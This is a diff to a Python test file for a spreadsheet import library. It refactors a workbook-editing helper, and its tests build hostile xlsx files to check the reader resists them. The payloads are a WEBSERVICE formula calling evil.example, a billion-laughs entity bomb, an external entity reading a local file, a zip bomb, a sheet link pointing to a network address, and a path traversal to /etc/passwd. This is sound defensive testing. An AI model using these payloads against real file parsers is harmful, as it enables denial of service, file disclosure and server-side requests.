@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
-import io
 import json
 import zipfile
 from collections.abc import Callable
@@ -19,6 +18,7 @@ import foedera
 from foedera.cli import main
 from foedera.export import read_sheet
 from foedera.export.tables_csv import unsafe
+from tests.export.workbooks import changed
 
 ROWS = 1000
 MAPPING = """\
@@ -53,17 +53,9 @@ def saved(path: Path, *rows: list[Any], change: Callable[[Worksheet], None] | No
     return path
 
 
-def changed(path: Path, member: str, old: str, new: str) -> Path:
+def change_part(path: Path, member: str, old: str, new: str) -> Path:
     """Change one part of a workbook."""
-    stream = io.BytesIO()
-    with zipfile.ZipFile(path) as before, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as after:
-        for name in before.namelist():
-            text = before.read(name)
-            if name == member:
-                assert old.encode() in text
-                text = text.replace(old.encode(), new.encode())
-            after.writestr(name, text)
-    path.write_bytes(stream.getvalue())
+    path.write_bytes(changed(path.read_bytes(), member, old, new))
     return path
 
 
@@ -109,13 +101,13 @@ def test_a_register_of_a_thousand_rows_comes_in_and_goes_out(
 def test_cells_that_are_formulas_give_their_last_result_and_never_their_words(tmp_path: Path) -> None:
     """Shared and array formulas, errors, links and results that are text."""
     path = saved(tmp_path / "r.xlsx", ["Name", "Number"], ["x", 1], ["y", 2])
-    changed(
+    change_part(
         path,
         "xl/worksheets/sheet1.xml",
         '<c r="B2" t="n"><v>1</v></c>',
         '<c r="B2"><f t="shared" si="0" ref="B2:B3">WEBSERVICE("http://evil.example")</f><v>41</v></c>',
     )
-    changed(
+    change_part(
         path, "xl/worksheets/sheet1.xml", '<c r="B3" t="n"><v>2</v></c>', '<c r="B3" t="e"><f>1/0</f><v>#DIV/0!</v></c>'
     )
     assert read_sheet(path.read_bytes(), "r.xlsx").rows == ((2, ("x", "41")), (3, ("y", "")))
@@ -125,8 +117,8 @@ def bomb_of_entities(path: Path) -> None:
     """A billion laughs."""
     levels = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
     sheet = "xl/worksheets/sheet1.xml"
-    changed(path, sheet, "<worksheet", f'<!DOCTYPE x [<!ENTITY a "lol">{levels}]><worksheet')
-    changed(path, sheet, "SECRET", "&i;")
+    change_part(path, sheet, "<worksheet", f'<!DOCTYPE x [<!ENTITY a "lol">{levels}]><worksheet')
+    change_part(path, sheet, "SECRET", "&i;")
 
 
 def entity_of_a_file(path: Path) -> None:
@@ -134,23 +126,23 @@ def entity_of_a_file(path: Path) -> None:
     secret = path.with_name("secret.txt")
     secret.write_text("the password", encoding="utf-8")
     sheet = "xl/worksheets/sheet1.xml"
-    changed(path, sheet, "<worksheet", f'<!DOCTYPE x [<!ENTITY a SYSTEM "{secret.as_uri()}">]><worksheet')
-    changed(path, sheet, "SECRET", "&a;")
+    change_part(path, sheet, "<worksheet", f'<!DOCTYPE x [<!ENTITY a SYSTEM "{secret.as_uri()}">]><worksheet')
+    change_part(path, sheet, "SECRET", "&a;")
 
 
 def bomb_of_zip(path: Path) -> None:
     """A sheet of blanks that unpacks to a thousand times its size."""
-    changed(path, "xl/worksheets/sheet1.xml", "</sheetData>", " " * 30_000_000 + "</sheetData>")
+    change_part(path, "xl/worksheets/sheet1.xml", "</sheetData>", " " * 30_000_000 + "</sheetData>")
 
 
 def sheet_of_elsewhere(path: Path) -> None:
     """A sheet that is an address."""
-    changed(path, "xl/_rels/workbook.xml.rels", "/xl/worksheets/sheet1.xml", "http://127.0.0.1:9/sheet1.xml")
+    change_part(path, "xl/_rels/workbook.xml.rels", "/xl/worksheets/sheet1.xml", "http://127.0.0.1:9/sheet1.xml")
 
 
 def sheet_outside(path: Path) -> None:
     """A sheet that is a file outside of the workbook."""
-    changed(path, "xl/_rels/workbook.xml.rels", "/xl/worksheets/sheet1.xml", "../../../../etc/passwd")
+    change_part(path, "xl/_rels/workbook.xml.rels", "/xl/worksheets/sheet1.xml", "../../../../etc/passwd")
 
 
 @pytest.mark.parametrize("harm", [bomb_of_entities, entity_of_a_file, bomb_of_zip, sheet_of_elsewhere, sheet_outside])
